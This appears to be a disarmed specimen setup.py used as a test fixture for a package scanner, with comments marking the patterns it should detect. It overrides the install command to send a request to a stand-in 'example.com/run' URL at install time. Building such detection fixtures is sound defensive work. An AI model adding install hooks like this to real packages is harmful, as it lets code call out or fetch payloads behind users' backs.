raise SystemExit("specimen: not to be run")
import requests
from setuptools import setup
from setuptools.command.install import install

def fetch():
    return requests.get("https://example.com/run")  # match: network-at-install

class Install(install):
    def run(self):
        install.run(self)
        fetch()

setup(name="specimen", cmdclass={"install": Install})  # match: command-override
